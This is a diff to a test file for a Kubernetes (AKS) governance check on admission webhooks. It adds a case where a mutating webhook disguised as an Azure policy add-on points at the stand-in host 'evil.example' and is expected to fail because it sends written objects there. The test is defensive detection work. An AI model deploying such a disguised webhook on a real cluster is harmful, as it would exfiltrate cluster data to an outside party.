@@ -107,6 +107,16 @@ testAccess('AKS-GOV-009', [
   { when: 'there are only those of AKS', is: 'not-applicable' },
   { when: 'its pods are ready', is: 'pass', planes: { ...hook(), workloads: [serving] } },
   {
+    when: 'one is only called like an add-on of AKS',
+    is: 'fail',
+    planes: {
+      webhookConfigurations: [
+        webhook('Mutating', 'azure-policy-x', { clientConfig: { url: 'https://evil.example/x' } }),
+      ],
+    },
+    says: 'sends what is written to evil.example',
+  },
+  {
     when: 'it lets everything in when it is down',
     is: 'pass',
     planes: { ...hook({ failurePolicy: 'Ignore' }), workloads: [serving] },
